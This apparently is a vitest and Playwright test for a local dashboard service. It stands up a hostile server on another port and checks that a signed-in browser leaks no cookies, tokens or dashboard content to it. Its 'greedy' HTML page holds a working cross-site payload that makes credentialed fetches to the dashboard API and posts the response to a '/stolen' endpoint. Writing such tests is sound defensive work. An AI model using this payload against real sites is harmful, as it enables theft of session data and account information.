import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import http, { type IncomingHttpHeaders, type RequestListener } from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, onTestFinished, test } from 'vitest';
import { pennyrow, startService } from '../cli/pennyrow.ts';
import { SKIP_BROWSER } from '../support/browser.ts';
import { BROWSER_MS, useBrowser } from '../support/browser-context.ts';
import { newCertificates } from '../support/one-port.ts';
import { ask, type Asking } from '../support/running-service.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

interface Recorded {
  readonly address: string;
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** A program of another user on another port of the machine: it records everything that a browser sends to it. */
async function eavesdropper(recorded: Recorded[], servicePort: string): Promise<readonly string[]> {
  const certificates = await newCertificates(temporaryFolder());
  onTestFinished(() => certificates.close());
  const listener: RequestListener = (request, response) => {
    void text(request).then((body) => {
      recorded.push({
        address: `${request.headers.host}`,
        method: request.method ?? '',
        url: request.url ?? '',
        headers: request.headers,
        body,
      });
      response.writeHead(200, { 'Content-Type': 'text/html' }).end(greedyPage(servicePort));
    });
  };
  const servers = [http.createServer(listener), https.createServer(certificates.secureContextOptions(), listener)];
  const ports = await Promise.all(
    servers.map(async (server) => {
      await once(server.listen(0, '127.0.0.1'), 'listening');
      onTestFinished(() => server.close().closeAllConnections());
      return (server.address() as AddressInfo).port;
    }),
  );
  return ['localhost', '127.0.0.1'].flatMap((host) => [`http://${host}:${ports[0]}`, `https://${host}:${ports[1]}`]);
}

/** Makes the browser send as much as possible, to this program's port and to the service's. */
function greedyPage(servicePort: string): string {
  return `<!doctype html><title>greedy</title><img src="/image"><form method="post" action="/form" target="form"><input name="a" value="b"></form><iframe name="form"></iframe>
    <script>
      const service = 'https://localhost:${servicePort}/dashboard/';
      if (location.pathname === '/') {
        document.forms[0].submit();
        Promise.allSettled([
          fetch('/fetch', { credentials: 'include' }),
          fetch('/post', { method: 'POST', credentials: 'include', body: 'x' }),
          fetch(service + 'control/call/account.list', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }),
          fetch(service, { credentials: 'include' }).then((answer) => answer.text()).then((stolen) => fetch('/stolen', { method: 'POST', body: stolen })),
        ]).then(() => fetch('/done'));
      }
    </script>`;
}

const LIST = '/dashboard/control/call/account.list';
/** Properties of the connection that the sender does not choose. */
const OF_THE_CONNECTION =
  /^(host|origin|connection|content-length|content-type|transfer-encoding|upgrade-insecure-requests)$/;

describe.skipIf(SKIP_BROWSER)('a server on another port of this machine', { timeout: BROWSER_MS }, () => {
  const newContext = useBrowser();

  test('receives nothing from a signed-in browser that would give it access to the dashboard', async () => {
    const folder = temporaryFolder();
    const ready = JSON.parse((await startService(folder, '--json')).firstLine) as {
      readonly url: string;
      readonly ca: string;
    };
    const { port } = new URL(ready.url);
    const origin = `https://localhost:${port}`;
    const send = (path: string, asking: Asking) => ask({ ca: readFileSync(ready.ca) }, `${ready.url}${path}`, asking);
    const opens = async (headers: Record<string, string>): Promise<string[]> => {
      const own = { Host: `localhost:${port}`, Origin: origin };
      const answers = {
        list: await send(LIST, {
          method: 'POST',
          body: '{}',
          headers: { ...headers, ...own, 'Content-Type': 'application/json' },
        }),
        api: await send('/api/v2/categories', { headers: { ...headers, ...own } }),
      };
      return Object.entries(answers).flatMap(([what, { status }]) => (status === 200 ? [what] : []));
    };
    const link = (await pennyrow(folder, 'dashboard', '--json')).json<{ readonly url: string }>();
    const context = await newContext();
    const page = await context.newPage();
    const pageRequest = page.waitForRequest((request) => request.url().endsWith(LIST));
    await page.goto(link.url);
    await page.getByRole('heading', { level: 1 }).waitFor();

    // The page's own headers grant access, which proves that `opens` detects access.
    expect(await opens(plain(await (await pageRequest).allHeaders()))).toEqual(['list']);

    const recorded: Recorded[] = [];
    const addresses = await eavesdropper(recorded, port);
    for (const address of addresses) await visit(context, page, address);
    expect(
      new Set(recorded.map(({ address, method, url }) => `${address} ${method} ${url}`)).size,
    ).toBeGreaterThanOrEqual(addresses.length * 5);
    expect(recorded.filter(({ url }) => url === '/stolen')).toEqual([]);
    for (const request of recorded) expect([request, await opens(plain(request.headers))]).toEqual([request, []]);
    // Sends every value that looks like a secret, from any place, as each kind of credential.
    for (const secret of secretsIn(recorded)) {
      const attempt = {
        secret,
        opened: [
          ...(await opens({ Authorization: `Bearer ${secret}` })),
          ...(await opens({ Cookie: `__Host-pennyrow=${secret}` })),
        ],
      };
      expect(attempt).toEqual({ secret, opened: [] });
    }
    expect(
      recorded.flatMap(({ headers }) => [headers.cookie, headers.authorization].filter((each) => each !== undefined)),
    ).toEqual([]);
  });
});

/** Opens the address in another tab, then in the tab of the dashboard, and goes back to the dashboard. */
async function visit(context: BrowserContext, page: Page, address: string): Promise<void> {
  const other = await context.newPage();
  const done = other.waitForRequest(`${address}/done`);
  await other.goto(address);
  await done;
  await other.close();
  const left = page.waitForRequest(`${address}/from-the-dashboard`);
  await page.evaluate(`location.href = '${address}/from-the-dashboard'`);
  await left;
  await page.waitForURL(`${address}/**`);
  await page.goBack();
  await page.getByRole('heading', { level: 1 }).waitFor();
}

function plain(headers: IncomingHttpHeaders): Record<string, string> {
  return Object.fromEntries(
    Object.entries(headers).flatMap(([name, value]) =>
      name.startsWith(':') || OF_THE_CONNECTION.test(name) ? [] : [[name, String(value)]],
    ),
  );
}

function secretsIn(recorded: readonly Recorded[]): Set<string> {
  return new Set(
    recorded.flatMap(({ url, headers, body }) =>
      [url, body, ...Object.values(headers).map(String)].flatMap((attempt) => attempt.match(/[\w-]{20,}/g) ?? []),
    ),
  );
}
